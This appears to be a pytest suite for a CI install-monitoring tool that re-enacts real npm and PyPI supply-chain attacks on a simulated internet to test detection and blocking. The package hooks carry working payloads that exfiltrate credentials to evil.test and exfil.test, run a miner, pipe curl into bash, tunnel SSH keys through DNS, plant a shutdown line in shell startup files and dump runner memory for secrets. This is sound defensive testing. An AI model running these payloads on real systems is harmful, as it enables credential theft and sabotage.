"""Re-enactments of real supply-chain incidents (the ones docs/rules.md cites for its rules),
each as a package on the test internet installed by the real npm or pip under ``ciwatch run``.

In audit mode (policies/default.yaml) the attack runs to completion against the test internet
(each scenario checks that it really did what the incident did), and the verdict names the
expected rules, each attributed to the malicious package (``name@version``) and the hook that
did it. In block mode (policies/strict.yaml, or default.yaml with ``--mode block``) the verdict
is fail, the job exits 3 (every payload here swallows its own network errors, as malware does,
so the install itself succeeds), and the unfamiliar hosts received nothing: no request, no DNS
name, no datagram. Every incident runs in the default ``--net redirect``; a few also run in
``--net sandbox``, where DNS and TCP reach ciwatch through the namespace's nftables rather than
the tracer. ``ciwatch check`` on each stored record gives the live run's verdict and findings.

Names and versions are those of the incidents where the notes give them; the hosts the
attackers used are played by evil.test and exfil.test (and by evil.test's bare address).
"""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.support.attacks import (
    DEFAULT_POLICY,
    POLICY_FAILED,
    STRICT_POLICY,
    Watched,
    assert_found,
    assert_replay_agrees,
    compiled,
    findings_of,
    npm_install,
    npm_project,
    pip_install,
    watch,
)
from tests.support.capabilities import drop_all_capabilities
from tests.support.internet import EVIL, EXFIL, NPM_REGISTRY, TestInternet

pytestmark = [pytest.mark.npm, pytest.mark.pip, pytest.mark.root]

#: The job's npm token, in ~/.npmrc, that Shai-Hulud and s1ngularity steal.
NPM_TOKEN = "npm_" + "R3enactedNotARealToken" * 2
#: What a GitHub Actions runner keeps in Runner.Worker's memory for each masked secret.
RUNNER_SECRET = "ghs_" + "R3enactedTokenNotARealOne0123456789"


@dataclass
class Stage:
    """Where one run happens: a fresh HOME (with the files a CI machine has) and project."""

    root: Path
    internet: TestInternet

    @property
    def home(self) -> Path:
        return self.root / "home"

    @property
    def project(self) -> Path:
        return self.root / "project"

    @property
    def tmp(self) -> Path:
        return self.root / "tmp"


@dataclass
class Scenario:
    package: str
    """``name@version`` of the malicious package."""
    hook: str
    command: list[str]
    audit_rules: set[str]
    """Rules the audit run must report, each about ``hook`` of ``package``."""
    block_rules: set[str]
    """Rules the block run must still report, with the payload's network refused."""
    options: tuple[str, ...] = ()
    env: dict[str, str] = field(default_factory=dict)
    worked: Callable[[Watched], None] | None = None
    """Checks, after the audit run, that the attack really happened (so the test proves the
    rules catch it rather than an attack that silently broke)."""
    cleanup: Callable[[], None] | None = None


def _running(name: str) -> bool:
    """Whether a process whose command line mentions ``name`` is running."""
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if name.encode() in (entry / "cmdline").read_bytes():
                    return True
            except OSError:
                continue
    return False


def _home_with_credentials(stage: Stage) -> None:
    """A CI machine's home: shell start-up files, an npm token, an SSH key, a git identity."""
    home = stage.home
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nnot-a-key\n")
    (home / ".bashrc").write_text("# ~/.bashrc\n")
    (home / ".gitconfig").write_text("[user]\n\tname = ci\n")
    (home / ".npmrc").write_text(f"//{NPM_REGISTRY}/:_authToken={NPM_TOKEN}\n")
    stage.tmp.mkdir()
    npm_project(stage.project)


# ----------------------------------------------------------------------------- the incidents


#: The stand-in for XMRig: an ELF that, given --background, forks, detaches and keeps running.
MINER_C = r"""
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv) {
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--background") == 0 && fork() != 0)
            return 0;
    }
    setsid();
    if (!freopen("/dev/null", "r", stdin) || !freopen("/dev/null", "w", stdout) || !freopen("/dev/null", "w", stderr))
        return 1;
    sleep(60);
    return 0;
}
"""


def ua_parser_js(stage: Stage) -> Scenario:
    """ua-parser-js 0.7.29 (Oct 2021): ``preinstall`` runs preinstall.js, which runs
    ``/bin/bash preinstall.sh``: a geo check, then ``curl`` (wget as fallback) of ``jsextension``
    from a bare IP address, ``chmod +x``, and the miner started in the background."""
    internet = stage.internet
    evil_ip = internet.address_of(EVIL).ipv4
    internet.serve(EVIL, "/download/jsextension", compiled(MINER_C))
    preinstall_sh = textwrap.dedent(
        f"""\
        IP=$(curl -k https://{EXFIL}/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
        if [ -z "$IP" ]; then
          var=$(pgrep jsextension)
          if [ -z "$var" ]; then
            curl http://{evil_ip}/download/jsextension -o jsextension
            if [ ! -f jsextension ]; then
              wget http://{evil_ip}/download/jsextension -O jsextension
            fi
            chmod +x jsextension
            ./jsextension -k --tls --rig-id q -o pool.{EXFIL}:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjct7w3b4r1Z6tyAPo --cpu-max-threads-hint=20 --donate-level=1 --background &
          fi
        fi
        """  # noqa: E501 - the script as published
    )
    preinstall_js = textwrap.dedent(
        """\
        var opsys = process.platform;
        if (opsys == "linux") {
          const { exec } = require("child_process");
          exec("/bin/bash preinstall.sh", (error, stdout, stderr) => {});
        }
        """
    )
    internet.publish_npm(
        "ua-parser-js",
        "0.7.29",
        package_json_extra={"main": "ua-parser.js", "scripts": {"preinstall": "node preinstall.js"}},
        files={
            "ua-parser.js": "module.exports = {};\n",
            "preinstall.js": preinstall_js,
            "preinstall.sh": preinstall_sh,
        },
    )

    def worked(watched: Watched) -> None:
        assert [r.path for r in internet.requests_to(EVIL)] == ["/download/jsextension"]
        assert (stage.project / "node_modules" / "ua-parser-js" / "jsextension").read_bytes()[:4] == b"\x7fELF"
        # The detached miner outlived the install, and --leftovers kill ended it.
        leftovers = findings_of(watched, "leftover-process")
        assert any("jsextension" in f["message"] and f["message"].endswith("(killed)") for f in leftovers)
        assert not _running("jsextension")

    return Scenario(
        package="ua-parser-js@0.7.29",
        hook="preinstall",
        command=npm_install("ua-parser-js@0.7.29"),
        audit_rules={
            "hook-network-tool",
            "exec-written-file",
            "unfamiliar-egress",
            "proxy-bypass",
            "leftover-process",
        },
        block_rules={"hook-network-tool", "unfamiliar-egress", "unapproved-hook"},
        options=("--leftovers", "kill"),
        worked=worked,
    )


SHAI_HULUD_WORKFLOW = """\
on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - name: Data Processing
        run: curl -d "$CONTENTS" https://evil.test/2de8ca18-fc1c-4f6e-bbd5-22bd5b4dfd8d
        env:
          CONTENTS: ${{ toJSON(secrets) }}
"""


def shai_hulud(stage: Stage) -> Scenario:
    """Shai-Hulud (Sep 2025), @ctrl/tinycolor 4.1.1: ``postinstall`` runs ``node bundle.js``,
    which takes the npm token, downloads TruffleHog and runs it over the home directory, writes
    ``.github/workflows/shai-hulud-workflow.yml`` into the repository, and posts what it found
    to a webhook host: all from node, no curl."""
    internet = stage.internet
    internet.serve(EVIL, "/trufflehog/releases/trufflehog", "#!/bin/sh\necho '{\"SourceMetadata\":{}}'\n")
    bundle = textwrap.dedent(
        """\
        const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
        const { execFileSync } = require("child_process");

        function get(url) {
          return new Promise((resolve, reject) => {
            https.get(url, res => {
              const chunks = [];
              res.on("data", c => chunks.push(c));
              res.on("end", () => resolve(Buffer.concat(chunks)));
            }).on("error", reject);
          });
        }

        function post(url, body) {
          return new Promise((resolve, reject) => {
            const req = https.request(url, { method: "POST", headers: { "Content-Type": "application/json" } },
              res => { res.resume(); res.on("end", resolve); });
            req.on("error", reject);
            req.end(body);
          });
        }

        async function main() {
          const loot = { system: { platform: process.platform, hostname: os.hostname() }, environment: process.env };
          try { loot.npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch (e) {}
          try {
            const tool = path.join(os.tmpdir(), "trufflehog");
            fs.writeFileSync(tool, await get("https://EVIL/trufflehog/releases/trufflehog"));
            fs.chmodSync(tool, 0o755);
            loot.trufflehog = execFileSync(tool, ["filesystem", os.homedir(), "--json"]).toString();
          } catch (e) {}
          const repo = process.env.INIT_CWD;
          fs.mkdirSync(path.join(repo, ".github", "workflows"), { recursive: true });
          fs.writeFileSync(path.join(repo, ".github", "workflows", "shai-hulud-workflow.yml"), WORKFLOW);
          try { await post("https://EVIL/2de8ca18-fc1c-4f6e-bbd5-22bd5b4dfd8d", JSON.stringify(loot)); } catch (e) {}
        }
        main();
        """
    ).replace("EVIL", EVIL)
    bundle = bundle.replace("WORKFLOW", json.dumps(SHAI_HULUD_WORKFLOW))
    internet.publish_npm(
        "@ctrl/tinycolor",
        "4.1.1",
        package_json_extra={"main": "index.js", "scripts": {"postinstall": "node bundle.js"}},
        files={"index.js": "module.exports = {};\n", "bundle.js": bundle},
    )

    def worked(watched: Watched) -> None:
        requests = internet.requests_to(EVIL)
        assert [r.path for r in requests] == [
            "/trufflehog/releases/trufflehog",
            "/2de8ca18-fc1c-4f6e-bbd5-22bd5b4dfd8d",
        ]
        assert b"SourceMetadata" in requests[1].body and NPM_TOKEN.encode() in requests[1].body
        workflow = stage.project / ".github" / "workflows" / "shai-hulud-workflow.yml"
        assert workflow.read_text() == SHAI_HULUD_WORKFLOW
        # TruffleHog is known by its name, whether the file is a binary or (here) a script.
        messages = [f["message"] for f in findings_of(watched, "credential-read")]
        assert any(m.endswith("ran trufflehog") for m in messages), messages

    return Scenario(
        package="@ctrl/tinycolor@4.1.1",
        hook="postinstall",
        command=npm_install("@ctrl/tinycolor@4.1.1"),
        audit_rules={"persistence-write", "credential-read", "exec-written-file", "unfamiliar-egress"},
        block_rules={"persistence-write", "credential-read", "unfamiliar-egress", "unapproved-hook"},
        env={"TMPDIR": str(stage.tmp)},
        worked=worked,
    )


def shai_hulud_2(stage: Stage) -> Scenario:
    """Shai-Hulud 2.0 (Nov 2025): ``preinstall`` runs ``node setup_bun.js``, which pipes the
    bun installer into bash (``curl -fsSL .../install | bash``: it drops ``~/.bun/bin/bun``) and
    then runs ``bun bun_environment.js``. The name is one of the packages hit; the version is a
    stand-in."""
    internet = stage.internet
    bun = "#!/bin/sh\necho 'bun 1.3.2: running' \"$@\"\n"
    internet.serve(EVIL, "/bun-linux-x64/bun", bun)
    installer = textwrap.dedent(
        f"""\
        #!/usr/bin/env bash
        set -euo pipefail
        bin_dir=$HOME/.bun/bin
        mkdir -p "$bin_dir"
        curl --fail --location --progress-bar --output "$bin_dir/bun" https://{EVIL}/bun-linux-x64/bun
        chmod +x "$bin_dir/bun"
        echo "bun was installed successfully to $bin_dir/bun"
        """
    )
    internet.serve(EVIL, "/install", installer)
    setup_bun = textwrap.dedent(
        f"""\
        const {{ execSync, spawnSync }} = require("child_process");
        const os = require("os"), path = require("path");
        try {{ execSync("curl -fsSL https://{EVIL}/install | bash", {{ stdio: "ignore" }}); }} catch (e) {{}}
        const bun = path.join(os.homedir(), ".bun", "bin", "bun");
        spawnSync(bun, ["bun_environment.js"], {{ stdio: "ignore" }});
        """
    )
    internet.publish_npm(
        "@asyncapi/specs",
        "6.8.3",
        package_json_extra={"scripts": {"preinstall": "node setup_bun.js"}},
        files={"setup_bun.js": setup_bun, "bun_environment.js": "// the payload bun runs\n"},
    )

    def worked(watched: Watched) -> None:
        assert [r.path for r in internet.requests_to(EVIL)] == ["/install", "/bun-linux-x64/bun"]
        assert (stage.home / ".bun" / "bin" / "bun").read_text() == bun

    return Scenario(
        package="@asyncapi/specs@6.8.3",
        hook="preinstall",
        command=npm_install("@asyncapi/specs@6.8.3"),
        audit_rules={"hook-network-tool", "hook-shell", "executable-write", "exec-written-file", "unfamiliar-egress"},
        block_rules={"hook-network-tool", "hook-shell", "unfamiliar-egress", "unapproved-hook"},
        worked=worked,
    )


def nx_s1ngularity(stage: Stage) -> Scenario:
    """Nx s1ngularity (Aug 2025), nx 21.5.0: ``postinstall`` runs ``node telemetry.js``, which
    looks for AI CLIs, inventories files into /tmp/inventory.txt, takes the npm token, appends
    ``sudo shutdown -h 0`` to ~/.bashrc and ~/.zshrc, and publishes what it took (a GitHub
    repository made with the victim's token; here a POST with fetch())."""
    internet = stage.internet
    telemetry = textwrap.dedent(
        """\
        const { spawnSync } = require("child_process");
        const fs = require("fs"), os = require("os"), path = require("path");

        async function main() {
          const result = { env: process.env, hostname: os.hostname(), platform: process.platform, clis: {} };
          for (const cli of ["claude", "gemini", "q"]) {
            result.clis[cli] = spawnSync("which", [cli]).status === 0;
          }
          const inventory = [];
          for (const dir of [os.homedir()]) {
            for (const name of fs.readdirSync(dir)) inventory.push(path.join(dir, name));
          }
          fs.writeFileSync(path.join(os.tmpdir(), "inventory.txt"), inventory.join("\\n") + "\\n");
          try { result.npmrc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch (e) {}
          for (const rc of [".bashrc", ".zshrc"]) {
            fs.appendFileSync(path.join(os.homedir(), rc), "\\nsudo shutdown -h 0\\n");
          }
          const encoded = Buffer.from(Buffer.from(Buffer.from(JSON.stringify(result)).toString("base64"))
            .toString("base64")).toString("base64");
          const repository = "s1ngularity-repository";
          try {
            await fetch("https://EVIL/user/repos", { method: "POST", body: JSON.stringify({ name: repository }) });
            const upload = `https://EVIL/repos/victim/${repository}/contents/results.b64`;
            await fetch(upload, { method: "PUT", body: encoded });
          } catch (e) {}
        }
        main();
        """
    ).replace("EVIL", EVIL)
    internet.publish_npm(
        "nx",
        "21.5.0",
        package_json_extra={"scripts": {"postinstall": "node telemetry.js"}},
        files={"telemetry.js": telemetry},
    )

    def worked(watched: Watched) -> None:
        requests = internet.requests_to(EVIL)
        assert [r.method for r in requests] == ["POST", "PUT"]
        assert NPM_TOKEN in base64.b64decode(base64.b64decode(base64.b64decode(requests[1].body))).decode()
        assert (stage.home / ".bashrc").read_text().endswith("\nsudo shutdown -h 0\n")
        assert (stage.home / ".zshrc").read_text() == "\nsudo shutdown -h 0\n"
        assert (stage.tmp / "inventory.txt").exists()

    return Scenario(
        package="nx@21.5.0",
        hook="postinstall",
        command=npm_install("nx@21.5.0"),
        audit_rules={"persistence-write", "credential-read", "unfamiliar-egress"},
        block_rules={"persistence-write", "credential-read", "unfamiliar-egress", "unapproved-hook"},
        env={"TMPDIR": str(stage.tmp)},
        worked=worked,
    )


def torchtriton(stage: Stage) -> Scenario:
    """torchtriton (Dec 2022): dependency confusion put this on the public index; its payload
    reads /etc/hosts, /etc/passwd, ~/.gitconfig and ~/.ssh/*, and sends them out in DNS names
    under the attacker's zone (here: the sdist's build, pip's build hook). It also sends the
    blob straight to the zone's server by UDP, past the configured resolver."""
    internet = stage.internet
    payload = textwrap.dedent(
        f"""\
        import binascii, glob, os, socket

        def _exfiltrate(data):
            blob = binascii.hexlify(data).decode()
            session = binascii.hexlify(os.urandom(4)).decode()
            for number, start in enumerate(range(0, min(len(blob), 5 * 60), 60)):
                try:
                    socket.getaddrinfo(f"{{blob[start:start + 60]}}.{{number}}.{{session}}.{EXFIL}", 443)
                except OSError:
                    pass
            try:
                address = socket.getaddrinfo("ns1.{EXFIL}", 9999, socket.AF_INET, socket.SOCK_DGRAM)[0][4]
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data[:512], address)
            except OSError:
                pass

        stolen = b""
        home = os.path.expanduser("~")
        for path in ["/etc/hosts", "/etc/passwd", home + "/.gitconfig", *sorted(glob.glob(home + "/.ssh/*"))]:
            try:
                with open(path, "rb") as handle:
                    stolen += handle.read(200)
            except OSError:
                pass
        _exfiltrate(stolen)
        """
    )
    internet.publish_sdist("torchtriton", "3.0.0", setup_code=payload)

    def worked(watched: Watched) -> None:
        names = [name for name in internet.dns_queries() if name.endswith("." + EXFIL)]
        assert len({name for name in names if len(name.split(".")[0]) == 60}) == 5, names
        assert internet.udp_datagrams(EXFIL, at_least=1)

    return Scenario(
        package="torchtriton@3.0.0",
        hook=PIP_HOOK,
        command=pip_install(stage.root / "site", "torchtriton==3.0.0"),
        audit_rules={"dns-tunnel", "credential-read", "unfamiliar-egress", "proxy-bypass"},
        block_rules={"dns-tunnel", "credential-read", "unfamiliar-egress"},
        worked=worked,
    )


def ctx(stage: Stage) -> Scenario:
    """ctx 0.2.6 (May 2022): instantiating ``Ctx`` sends the environment's AWS keys and the
    host name, base64 in an HTTP GET, with Python ``requests`` (urllib where requests is
    missing). Here the package's setup.py instantiates it at build time."""
    internet = stage.internet
    module = textwrap.dedent(
        f"""\
        import base64, os, socket, urllib.parse, urllib.request


        class Ctx(dict):
            def __init__(self):
                super().__init__()
                stolen = {{k: v for k, v in os.environ.items() if k.startswith("AWS_")}}
                stolen["hostname"] = socket.gethostname()
                query = urllib.parse.urlencode({{"x": base64.b64encode(repr(stolen).encode()).decode()}})
                url = "https://{EVIL}/?" + query
                try:
                    try:
                        import requests
                    except ImportError:
                        urllib.request.urlopen(url, timeout=10).read()
                    else:
                        requests.get(url, timeout=10)
                except Exception:
                    pass
        """
    )
    setup = "import sys\nsys.path.insert(0, '.')\nfrom ctx import Ctx\n\nCtx()\n"
    internet.publish_sdist("ctx", "0.2.6", files={"ctx/__init__.py": module}, setup_code=setup)
    access_key = "AKIAREENACTEDEXAMPLE"

    def worked(watched: Watched) -> None:
        requests = internet.requests_to(EVIL)
        assert len(requests) == 1 and requests[0].method == "GET"
        encoded = requests[0].path.split("x=", 1)[1]
        import urllib.parse

        assert access_key in base64.b64decode(urllib.parse.unquote(encoded)).decode()
        user_agent = requests[0].header("User-Agent") or ""
        assert user_agent.startswith("python-requests"), user_agent

    return Scenario(
        package="ctx@0.2.6",
        hook=PIP_HOOK,
        command=pip_install(stage.root / "site", "ctx==0.2.6"),
        audit_rules={"unfamiliar-egress"},
        block_rules={"unfamiliar-egress"},
        env={"AWS_ACCESS_KEY_ID": access_key, "AWS_SECRET_ACCESS_KEY": "reenacted/not+a+real+secret+key+0000000"},
        worked=worked,
    )


MEMDUMP = """\
#!/usr/bin/env python3

import sys
import os
import re


def get_pid():
    pids = [pid for pid in os.listdir('/proc') if pid.isdigit()]
    for pid in pids:
        try:
            with open(os.path.join('/proc', pid, 'cmdline'), 'rb') as cmdline_f:
                if b'Runner.Worker' in cmdline_f.read():
                    return pid
        except OSError:
            continue
    raise Exception('Can not get pid of Runner.Worker')


if __name__ == "__main__":
    pid = get_pid()
    map_path = f"/proc/{pid}/maps"
    mem_path = f"/proc/{pid}/mem"
    with open(map_path, 'r') as map_f, open(mem_path, 'rb', 0) as mem_f:
        for line in map_f.readlines():
            m = re.match(r'([0-9A-Fa-f]+)-([0-9A-Fa-f]+) ([-r])', line)
            if m.group(3) == 'r':
                start = int(m.group(1), 16)
                end = int(m.group(2), 16)
                if start > sys.maxsize:
                    continue
                mem_f.seek(start)
                try:
                    chunk = mem_f.read(end - start)
                    sys.stdout.buffer.write(chunk)
                except OSError:
                    continue
"""


def tj_actions(stage: Stage) -> Scenario:
    """tj-actions/changed-files (Mar 2025): ``curl -sSf .../memdump.py | sudo python3`` reads
    the Runner.Worker process's memory, greps the masked secrets out of it and prints them,
    twice base64-encoded, into the build log. Here an npm package's ``postinstall`` runs the
    same pipeline (without sudo: the job runs as root) against a stand-in Runner.Worker."""
    internet = stage.internet
    internet.serve(EVIL, "/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py", MEMDUMP)
    pipeline = (
        f"curl -sSf https://{EVIL}/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py | python3 "
        '| tr -d \'\\0\' | grep -aoE \'"[^"]+":\\{"value":"[^"]*","isSecret":true\\}\' | sort -u '
        "| base64 -w 0 | base64 -w 0; echo"
    )
    internet.publish_npm(
        "@tj-actions/changed-files",
        "45.0.7",
        package_json_extra={"scripts": {"postinstall": pipeline}},
    )
    # The runner's worker, outside the build's process tree, holding a secret the way the
    # runner does (built at run time, so that it is only in the heap, not in the command line),
    # and no capabilities, as the runner's user has none: a root build under ciwatch, which has
    # no CAP_SYS_PTRACE, can't read the memory of a process that has it (test_reach.py).
    worker_code = (
        'import sys; secret = \'"github_token":{"value":"\' + sys.argv[1] + \'","isSecret":true}\'; '
        "print('ready', flush=True); sys.stdin.read()"
    )
    worker = subprocess.Popen(
        ["Runner.Worker", "-c", worker_code, RUNNER_SECRET],
        executable=sys.executable,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        preexec_fn=drop_all_capabilities,
    )
    assert worker.stdout is not None and worker.stdout.readline() == "ready\n"

    def worked(watched: Watched) -> None:
        leaked = f'"github_token":{{"value":"{RUNNER_SECRET}","isSecret":true}}\n'
        twice = base64.b64encode(base64.b64encode(leaked.encode())).decode()
        assert twice in watched.stdout

    def cleanup() -> None:
        worker.kill()
        worker.wait()

    return Scenario(
        package="@tj-actions/changed-files@45.0.7",
        hook="postinstall",
        command=[*npm_install("@tj-actions/changed-files@45.0.7"), "--foreground-scripts"],
        audit_rules={"hook-network-tool", "hook-shell", "credential-read", "unfamiliar-egress"},
        block_rules={"hook-network-tool", "hook-shell", "unfamiliar-egress", "unapproved-hook"},
        worked=worked,
        cleanup=cleanup,
    )


#: The pip build hook that runs setup.py for these sdists: their in-tree backend has no
#: prepare_metadata_for_build_wheel, so pip's fallback builds the wheel inside that hook.
PIP_HOOK = "prepare_metadata_for_build_wheel"

INCIDENTS: dict[str, Callable[[Stage], Scenario]] = {
    "ua-parser-js": ua_parser_js,
    "shai-hulud": shai_hulud,
    "shai-hulud-2": shai_hulud_2,
    "nx-s1ngularity": nx_s1ngularity,
    "torchtriton": torchtriton,
    "ctx": ctx,
    "tj-actions": tj_actions,
}


@pytest.fixture
def stage(internet: TestInternet, tmp_path: Path) -> Stage:
    stage = Stage(tmp_path, internet)
    _home_with_credentials(stage)
    return stage


@pytest.fixture
def staged(request: pytest.FixtureRequest, stage: Stage) -> Iterator[Scenario]:
    """The incident named by the test's ``incident`` parameter, published and ready to install."""
    scenario = INCIDENTS[request.getfixturevalue("incident")](stage)
    try:
        yield scenario
    finally:
        if scenario.cleanup is not None:
            scenario.cleanup()


def _is_attacker_name(name: str) -> bool:
    name = name.lower().rstrip(".")
    return any(name == host or name.endswith("." + host) for host in (EVIL, EXFIL))


def _nothing_reached_the_attacker(internet: TestInternet) -> None:
    assert internet.requests_to(EVIL) == []
    assert internet.requests_to(EXFIL) == []
    assert [name for name in internet.dns_queries() if _is_attacker_name(name)] == []
    assert internet.udp_datagrams() == []


#: (incident, --net): every incident in the default redirect mode, and a few in sandbox mode,
#: where DNS reaches ciwatch through the namespace's nftables instead of the tracer.
AUDIT_CASES = [*((name, None) for name in INCIDENTS), ("nx-s1ngularity", "sandbox"), ("shai-hulud-2", "sandbox")]
#: (incident, --net, policy): strict.yaml is block mode; default.yaml needs --mode block.
BLOCK_CASES = [
    *((name, None, STRICT_POLICY) for name in INCIDENTS),
    ("torchtriton", "sandbox", STRICT_POLICY),
    ("shai-hulud-2", "sandbox", STRICT_POLICY),
    ("tj-actions", None, DEFAULT_POLICY),
]


def _case_id(value: object) -> str:
    return value.name if isinstance(value, Path) else str(value or "redirect")


@pytest.mark.parametrize(("incident", "net"), AUDIT_CASES, ids=_case_id)
def test_audit_reports_the_incident(incident: str, net: str | None, staged: Scenario, stage: Stage) -> None:
    watched = watch(
        stage.internet,
        stage.home,
        stage.project,
        stage.root / "out",
        staged.command,
        policy=DEFAULT_POLICY,
        net=net,
        options=staged.options,
        env=staged.env,
    )
    assert watched.code == 0, watched.stderr[-4000:]
    verdict = watched.verdict
    assert verdict["mode"] == "audit" and verdict["verdict"] == "fail", watched.described()
    for rule in sorted(staged.audit_rules):
        assert_found(watched, rule, staged.package, staged.hook)
    if staged.worked is not None:
        staged.worked(watched)
    assert_replay_agrees(watched)


@pytest.mark.parametrize(("incident", "net", "policy"), BLOCK_CASES, ids=_case_id)
def test_block_refuses_the_incident(
    incident: str, net: str | None, policy: Path, staged: Scenario, stage: Stage
) -> None:
    mode = None if policy == STRICT_POLICY else "block"
    watched = watch(
        stage.internet,
        stage.home,
        stage.project,
        stage.root / "out",
        staged.command,
        policy=policy,
        mode=mode,
        net=net,
        options=staged.options,
        env=staged.env,
    )
    verdict = watched.verdict
    assert verdict["mode"] == "block" and verdict["verdict"] == "fail", watched.described()
    # Every payload swallows its own network errors: the install succeeds, and block mode's
    # fail turns that into exit code 3.
    assert watched.record_end_code == 0 and watched.code == POLICY_FAILED, watched.stderr[-4000:]
    # unapproved-hook needs a hooks.allowed list: strict.yaml has one, default.yaml has none.
    expected = staged.block_rules if policy == STRICT_POLICY else staged.block_rules - {"unapproved-hook"}
    for rule in sorted(expected):
        assert_found(watched, rule, staged.package, staged.hook)
    assert verdict["refusals"] > 0
    _nothing_reached_the_attacker(stage.internet)
    assert_replay_agrees(watched)
